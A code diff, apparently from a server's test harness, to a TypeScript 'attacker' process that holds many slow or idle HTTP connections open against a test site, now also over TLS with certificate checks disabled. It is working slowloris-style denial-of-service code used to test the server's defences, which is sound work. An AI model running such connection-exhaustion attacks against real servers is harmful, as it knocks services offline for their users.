@@ -1,8 +1,10 @@
 import { connect, type Socket } from 'node:net';
+import { connect as connectTls } from 'node:tls';
+import { CLIENT } from '../../network/addresses';
 
 /**
- * The attacker's process, in the network of the stack's users: `attacker.ts <kind> <connections> <address> <port>`. It keeps so many
- * connections open, each in its way, and opens a new one for each that is closed. It says "ready" once, and ends with whoever started it.
+ * The attacker's process, in the network of the stack's users: `attacker.ts <kind> <connections> <address> <site>`. It keeps so many
+ * connections open, each in its way, and opens a new one for each that is closed. It has an address of its own, hence ports of its own. It says "ready" once, and ends with whoever started it.
  */
 export type Attack = 'slow-headers' | 'slow-body' | 'idle';
 
@@ -13,11 +15,13 @@ const WAYS: Readonly<Record<Attack, readonly [string, string]>> = {
   idle: ['GET /static/home.css HTTP/1.1\r\nHost: www.foobar.com\r\n\r\n', ''],
 };
 /** So many connections are opened at once, and so long is waited after them, in milliseconds. */
-const [AT_ONCE, PAUSE] = [50, 20];
+const [AT_ONCE, PAUSE] = [10, 20];
 
-const [kind = 'idle', count = '1', host = '', port = '80'] = process.argv.slice(2);
+const [kind = 'idle', count = '1', host = '', site = ''] = process.argv.slice(2);
+const { protocol, hostname, port } = new URL(site);
 const [first, again] = WAYS[kind as Attack];
 const open = new Set<Socket>();
+let established = 0;
 let isReady = false;
 
 process.on('disconnect', () => process.exit());
@@ -27,13 +31,25 @@ setInterval(() => {
 setInterval(() => {
   const missing = Number(count) - open.size;
   for (let i = 0; i < Math.min(missing, AT_ONCE); i++) start();
-  if (missing > 0 || isReady) return;
+  if (established < Number(count) || isReady) return;
   isReady = true;
   process.send?.('ready');
 }, PAUSE);
 
 function start(): void {
-  const socket = connect(Number(port), host, () => socket.write(first));
+  const begin = () => {
+    established += 1;
+    socket.write(first);
+  };
+  const to = {
+    host,
+    port: Number(port) || (protocol === 'https:' ? 443 : 80),
+    localAddress: CLIENT.attacker,
+  };
+  const socket =
+    protocol === 'https:'
+      ? connectTls({ ...to, servername: hostname, rejectUnauthorized: false }, begin)
+      : connect(to, begin);
   socket.on('data', () => {}).on('error', () => {});
   socket.on('close', () => open.delete(socket));
   open.add(socket);
